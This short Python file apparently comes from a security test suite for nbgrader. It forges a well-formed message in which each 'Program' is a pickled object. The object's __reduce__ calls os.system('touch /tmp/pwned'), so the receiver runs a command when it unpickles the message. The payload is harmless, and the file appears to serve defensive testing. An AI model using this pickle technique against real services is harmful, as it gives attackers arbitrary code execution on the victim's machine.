"""Sends a well-formed message whose Programs are pickles.

group: forges
control: no: stock nbgrader has no such channel
functions: shard_params
uses: forge
"""

# %%
import pickle


class Evil:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned",)


class Say:
    if request():
        names = [case["name"] for case in request()["cases"]]
        say({"cases": names, "line": ""}, [pickle.dumps(Evil())] * len(names))
